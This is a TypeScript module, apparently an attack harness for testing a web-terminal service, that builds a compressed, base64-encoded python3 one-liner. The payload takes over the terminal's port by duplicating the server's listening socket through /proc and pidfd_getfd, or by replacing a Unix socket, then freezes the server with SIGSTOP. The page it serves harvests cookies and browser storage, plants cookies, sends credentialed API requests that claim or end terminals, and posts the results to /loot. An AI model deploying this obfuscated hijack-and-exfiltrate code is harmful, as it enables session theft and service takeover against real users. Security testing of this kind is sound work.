// A visitor's attack that serves pages at the port of their terminal. On one machine the port is a Unix socket, which the attack
// replaces. Elsewhere it takes the listening socket from the terminal's server, stops the server and answers instead. The server runs as
// the same user, so the kernel allows this unless Yama or an unreadable program prevents it.

import { deflateSync } from 'node:zlib';

const script = String.raw`
import ctypes, glob, http.server, json, os, re, signal, socket, sys, threading, urllib.parse
libc = ctypes.CDLL(None, use_errno=True)
PAGE = r'''@page@'''
seen = []

def listeners():
    # The inodes of listening TCP sockets, and which process has each.
    inodes = set()
    for table in ('/proc/net/tcp', '/proc/net/tcp6'):
        try:
            for line in open(table).read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == '0A': inodes.add(fields[9])
        except OSError: pass
    for link in glob.glob('/proc/[0-9]*/fd/*'):
        try: target = os.readlink(link)
        except OSError: continue
        found = re.fullmatch(r'socket:\[(\d+)\]', target)
        if found and found[1] in inodes:
            _, _, pid, _, fd = link.split('/')
            yield int(pid), int(fd)

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def answer(self):
        length = int(self.headers.get('content-length') or 0)
        body = self.rfile.read(length).decode('utf-8', 'replace')
        url = urllib.parse.urlsplit(self.path)
        if url.path == '/seen':
            return self.send(json.dumps(seen), 'application/json')
        if self.headers.get('user-agent', '').startswith('Mozilla') or body:
            seen.append({'path': self.path, 'headers': {k.lower(): v for k, v in self.headers.items()}, 'body': body})
        plant = json.loads(urllib.parse.parse_qs(url.query).get('plant', ['{}'])[0])
        self.send(PAGE, 'text/html', plant.get('cookies', []))
    do_GET = do_POST = do_OPTIONS = do_HEAD = answer
    def send(self, text, kind, cookies=()):
        data = text.encode()
        self.send_response(200)
        self.send_header('content-type', kind)
        self.send_header('content-length', str(len(data)))
        for cookie in cookies: self.send_header('set-cookie', cookie + '; Path=/; Max-Age=9999')
        self.end_headers()
        if self.command != 'HEAD': self.wfile.write(data)
    def log_message(self, *args): pass

class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def __init__(self, taken):
        super().__init__(('127.0.0.1', 0), Handler, bind_and_activate=False)
        self.socket.close()
        self.socket = taken

# On a machine without sandboxes, other pods are in sight too.
mark = os.environ.get('LOCAL_POD_UID')
def is_own(pid):
    if pid == os.getpid(): return False
    return mark is None or ('LOCAL_POD_UID=' + mark).encode() in open('/proc/%d/environ' % pid, 'rb').read().split(b'\0')

def steal():
    for pid, fd in listeners():
        if not is_own(pid): continue
        try: copy = libc.syscall(438, os.pidfd_open(pid), fd, 0)
        except OSError: continue
        if copy < 0: continue
        victims.add(pid)
        yield socket.socket(fileno=copy)

def replace(path):
    os.unlink(path)
    one = socket.socket(socket.AF_UNIX)
    one.bind(path)
    one.listen(128)
    return one

victims = set()
port = '/run/ports/3000'
taken = [replace(port)] if os.path.exists(port) else list(steal())
if not taken:
    print('cannot take the port', flush=True)
    sys.exit(1)
for pid in victims: os.kill(pid, signal.SIGSTOP)
for one in taken: threading.Thread(target=Server(one).serve_forever).start()
`;

// Reads all it can of the page's origin, changes what it can, and reports to its server.
const page = `<!doctype html><title>free terminals</title><script>
(async () => {
  const { searchParams } = new URL(location.href);
  const page = searchParams.get('page') ?? '/';
  const { storage = {}, cookies = [] } = JSON.parse(searchParams.get('plant') ?? '{}');
  const read = {
    cookie: document.cookie,
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    databases: await indexedDB.databases(),
    caches: self.caches ? await caches.keys() : [],
    workers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    opener: window.opener !== null,
  };
  for (const [name, value] of Object.entries(storage)) localStorage.setItem(name, value);
  for (const cookie of cookies) document.cookie = cookie + '; path=/';
  const attempt = (url, options) =>
    fetch(new URL(url, page), { credentials: 'include', ...options }).then(
      async (answer) => answer.type + ' ' + answer.status + ' ' + (await answer.text()),
      (error) => 'refused ' + error,
    );
  const form = { method: 'POST', body: '{}', headers: { 'content-type': 'text/plain' } };
  const did = {
    'claims with a simple body': await attempt('/api/terminals', { ...form, mode: 'no-cors' }),
    'claims and reads the answer': await attempt('/api/terminals', form),
    'looks at the terminal': await attempt('/api/terminals/current', {}),
    'looks as an image does': await attempt('/api/terminals/current', { mode: 'no-cors' }),
    'claims with JSON': await attempt('/api/terminals', { ...form, headers: { 'content-type': 'application/json' } }),
    'sends an id': await attempt('/api/terminals/current', { headers: { 'warmterm-visitor': 'x' } }),
    'claims with a new id': await attempt('/api/terminals', {
      ...form,
      headers: { 'content-type': 'application/json', 'warmterm-visitor': 'new.' + 'A'.repeat(22) },
    }),
    'ends the terminal': await attempt('/api/terminals/current', { method: 'DELETE' }),
    'opens the relay': await new Promise((resolve) => {
      const socket = new WebSocket(new URL('/api/terminals/current/relay?EIO=4&transport=websocket', page).href.replace('http', 'ws'));
      socket.onopen = () => resolve('opened');
      socket.onerror = () => resolve('refused');
    }),
  };
  await fetch('/loot', { method: 'POST', body: JSON.stringify({ read, did }) });
})().catch((error) => fetch('/loot', { method: 'POST', body: String(error) }));
</script>`;

/** The attack as a shell command. The page gets no output from it, unless the attack fails. */
export function takeOverPort(): string {
  const packed = deflateSync(
    script.replace('@page@', () => page),
    { level: 9 },
  ).toString('base64');
  const python = `import base64,zlib;exec(zlib.decompress(base64.b64decode("${packed}")))`;
  return `clear; python3 -c '${python}' &`;
}
